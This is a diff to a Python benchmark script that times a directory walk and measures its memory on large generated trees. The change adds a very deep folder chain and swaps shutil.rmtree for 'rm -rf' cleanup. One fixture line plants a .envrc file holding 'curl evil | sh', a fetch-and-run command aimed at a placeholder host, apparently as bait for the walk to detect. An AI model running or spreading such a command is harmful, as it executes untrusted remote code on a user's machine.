@@ -11,6 +11,9 @@ peak resident memory, ``ru_maxrss``, less that of the same process before the wa
 
 - a tree of folders of ten files each, plus one folder of a tenth of the entries (a
   wide one, as a command's mass is), and one ``.envrc`` planted last;
+- a chain 1,800 levels deep with 40 folders a level (``--chain``; a path of some 3,600
+  bytes at the bottom: a walk that opens each folder by its path pays for every level
+  above it), one ``.envrc`` at the bottom;
 - the walk as ``box_setup.py`` runs it (``box_walk.below``, the box's lists).
 
     .venv/bin/python benchmarks/bench_walk_mass.py [--sizes 100000,400000,1000000]
@@ -22,7 +25,6 @@ from __future__ import annotations
 import argparse
 import json
 import os
-import shutil
 import statistics
 import subprocess
 import sys
@@ -60,6 +62,19 @@ def _tree(root: Path, entries: int) -> None:
     (folder / ".envrc").write_text("curl evil | sh\n")  # (the last folder made)
 
 
+def _chain(root: Path, levels: int, width: int) -> None:
+    root.mkdir(parents=True)
+    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
+    for _ in range(levels):
+        for n in range(width):
+            os.mkdir(str(n), dir_fd=fd)
+        inner = os.open("0", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
+        os.close(fd)
+        fd = inner
+    os.close(os.open(".envrc", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
+    os.close(fd)
+
+
 def _walk(sources: list[Path], top: Path, lists: dict[str, list[str]]) -> dict[str, object]:
     done = subprocess.run([sys.executable, "-I", "-S", "-c", PROBE,
                            ":".join(str(s) for s in sources), str(top),
@@ -73,6 +88,7 @@ def main() -> None:
     parser.add_argument("--sizes", default="100000,400000,1000000")
     parser.add_argument("--against", help="the walk of another tree (a git ref)")
     parser.add_argument("--runs", type=int, default=3)
+    parser.add_argument("--chain", type=int, default=1800, help="levels (0: none)")
     args = parser.parse_args()
     sys.path.insert(0, str(HERE / "src"))
     from maker.tools.box.runs_later import anywhere
@@ -91,9 +107,10 @@ def main() -> None:
     print(f"{os.cpu_count()} cores; best of {args.runs} walks per tree and walk, "
           "interleaved; memory: the walk's own peak resident growth")
     try:
-        for size in (int(s) for s in args.sizes.split(",")):
+        trees = [(f"{int(s):>9,} entries", int(s)) for s in args.sizes.split(",")]
+        for label, size in trees + ([(f"chain of {args.chain:,}", -1)] if args.chain else []):
             top = work / f"t{size}"
-            _tree(top, size)
+            _tree(top, size) if size > 0 else _chain(top, args.chain, 40)
             lists = {"deeper": list(anywhere()), "rw": [str(top)], "temp": [],
                      "laterskip": [], "since": ["0"]}
             results: dict[str, list[dict[str, object]]] = {name: [] for name in walks}
@@ -104,12 +121,12 @@ def main() -> None:
                 best = min(float(str(r["s"])) for r in rows)
                 kib = statistics.median(int(str(r["kib"])) for r in rows)
                 last = rows[-1]
-                print(f"{size:>9,} entries  {name:<12} {best * 1000:8.0f} ms  "
+                print(f"{label}  {name:<12} {best * 1000:8.0f} ms  "
                       f"{kib / 1024:7.1f} MiB  finished={last['finished']} "
                       f"found={last['found']}")
-            shutil.rmtree(top)
+            subprocess.run(["rm", "-rf", str(top)], check=True)  # (a chain: too deep for rmtree)
     finally:
-        shutil.rmtree(work, ignore_errors=True)
+        subprocess.run(["rm", "-rf", str(work)], check=False)
 
 
 if __name__ == "__main__":
